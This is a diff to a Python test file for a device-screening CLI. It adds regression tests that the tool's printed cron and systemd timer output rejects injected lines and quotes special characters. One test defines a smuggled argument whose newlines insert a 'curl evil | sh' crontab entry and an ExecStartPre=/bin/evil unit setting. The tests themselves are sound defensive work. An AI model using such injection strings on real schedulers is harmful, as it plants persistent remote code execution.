@@ -4,13 +4,14 @@
 from __future__ import annotations
 
 import json
+import shlex
 import subprocess
 import sys
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from _store_support import axis, hik, scan_doc
+from _store_support import axis, hik, relabelled, scan_doc
 
 from entityscan.cli import main
 from entityscan.errors import InputError
@@ -44,8 +45,7 @@ def test_store_import_and_diff_cli(tmp_path: Path, ctx: ScreeningContext,
                                    capsys: pytest.CaptureFixture[str]) -> None:
     db = f"sqlite:///{tmp_path / 's.db'}"
     a = write(tmp_path / "a.json", scan_doc([axis("ac:cc:8e:00:10:01", "127.60.9.1")], ctx))
-    relabel = axis("ac:cc:8e:00:10:01", "127.60.9.1")
-    relabel.brand = "IMOU"
+    relabel = relabelled("ac:cc:8e:00:10:01", "127.60.9.1", "IMOU", maker="Dahua")
     b = write(tmp_path / "b.json", scan_doc([relabel, hik("44:19:b6:00:10:02", "127.60.9.2")],
                                             ctx))
     assert main(["store", "import", str(a), "--db", db]) == 0
@@ -137,6 +137,28 @@ def test_printed_timers() -> None:
         interval_as_cron(timedelta(minutes=7))
     line = cron_line(Timing(every=timedelta(days=1)), ["store", "import", "a%b.json"])
     assert line.splitlines()[1].startswith("0 0 * * * ") and r"a\%b.json" in line
+
+
+@pytest.mark.parametrize("flag", ["--print-cron", "--print-systemd"])
+def test_printed_timers_refuse_injected_lines(flag: str,
+                                              capsys: pytest.CaptureFixture[str]) -> None:
+    """A newline in an argument once wrote a second crontab line / unit setting."""
+    evil = "site.json\n* * * * * curl evil | sh\n[Service]\nExecStartPre=/bin/evil"
+    assert main(["schedule", "--every", "6h", flag, "--", "store", "import", evil]) == 2
+    captured = capsys.readouterr()
+    assert "control character" in captured.err and "curl" not in captured.out
+
+
+def test_printed_timers_quote_what_their_readers_expand() -> None:
+    odd = ["store", "import", "site 12 $HOME %i \"quoted\" back\\slash.json"]
+    line = cron_line(Timing(every=timedelta(hours=6)), odd).splitlines()[1]
+    # cron turns `\%` back into `%` and hands the rest to /bin/sh: the argv comes back whole
+    words = shlex.split(line.split(" ", 5)[5].replace("\\%", "%"))
+    assert words[-3:] == odd
+    units = systemd_units(Timing(every=timedelta(hours=6)), odd)
+    exec_start = next(u for u in units.splitlines() if u.startswith("ExecStart="))
+    assert exec_start.endswith('store import "site 12 $$HOME %%i \\"quoted\\" '
+                               'back\\\\slash.json"')
 
 
 def test_lists_update_rescreens_the_stored_inventory(tmp_path: Path, ctx: ScreeningContext,
